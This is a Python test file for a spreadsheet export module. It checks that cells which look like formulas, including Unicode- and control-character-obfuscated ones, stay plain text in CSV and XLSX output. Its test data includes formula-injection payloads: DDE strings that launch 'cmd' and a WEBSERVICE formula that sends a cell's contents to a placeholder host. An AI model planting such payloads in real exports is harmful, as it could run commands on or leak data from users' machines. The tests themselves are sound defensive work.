"""What a spreadsheet would take for a formula stays the text it is."""

import csv
from io import BytesIO, StringIO
from typing import Any

import pytest
from openpyxl import load_workbook

from shared.web.spreadsheets import FOR_PEOPLE, as_csv, as_xlsx

FORMULAS = (
    "=1+1",
    "+a",
    "-b",
    "@c",
    "\td",
    "\0=1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff@c",
    "\u202e=1+1",
    "\x1b=1+1",
    "\uff1d1+1",
    "\uff0ba",
    "\uff0db",
    "\uff20c",
    '=HYPERLINK("http://example.invalid","open")',
    "   \t =1+1",
    "\u2003=1+1",
    "\u2060\ufeff\u200d=1+1",
    "\u00ad+1",
    "\u3000\uff1d1+1",
    "\ufe66a",
    "\ufe62a",
    "\ufe63a",
    "\ufe6ba",
    "\r=1+1",
    "\n=1+1",
    "\x0b=1+1",
    "\x85=1+1",
    "\u2028=1+1",
    "+358401234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.invalid/?"&A1)',
    "=1+1" + "x" * 40_000,
)
LONGEST = 32_767  # characters that a cell holds


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_looks_like_a_formula_stays_text(text: str) -> None:
    rows: list[Any] = [[text, -5, "safe"]]
    (row,) = list(csv.reader(StringIO(as_csv(["a"], rows).decode("utf-8-sig"))))[1:]
    assert [cell[:1] for cell in row] == ["'", "-", "s"]
    assert row[0].replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_sheet_has_no_formula(text: str) -> None:
    sheet = load_workbook(BytesIO(as_xlsx([text], [[text, -5]]))).active
    kinds = [[cell.data_type for cell in row] for row in sheet]
    assert kinds == [["s", "n"], ["s", "n"]]
    assert sheet["A2"].value[:1] == "'"
    assert sheet["A1"].value == sheet["A2"].value
    if text.isprintable() and len(text) < LONGEST:
        assert sheet["A2"].value.replace("'", "") == text.replace("'", "")


def test_a_text_that_is_too_long_for_a_cell_is_cut_not_lost() -> None:
    sheet = load_workbook(BytesIO(as_xlsx(["a"], [["x" * 40_000, float("nan")]]))).active
    assert sheet["A2"].value == "x" * (LONGEST - 1) + "…"
    assert sheet["B2"].value is None


@pytest.mark.parametrize(
    ("language", "line"),
    [("fi", "Turku;63,7;5;'=1"), ("sv", "Turku;63,7;5;'=1"), ("en", "Turku,63.7,5,'=1")],
)
def test_a_file_for_people_is_divided_as_their_spreadsheet_does(language: str, line: str) -> None:
    rows: list[Any] = [["Turku", 63.7, 5, "=1"]]
    written = as_csv(["a", "b", "c", "d"], rows, FOR_PEOPLE[language]).decode("utf-8-sig")
    assert written.splitlines()[1] == line


def test_a_formula_after_what_divides_cells_elsewhere_stays_text() -> None:
    line = as_csv(["a"], [["Bell; =1+1", "a;b", "1-2"]]).decode("utf-8-sig").splitlines()[1]
    assert line == "Bell; '=1+1,a;b,1-2"
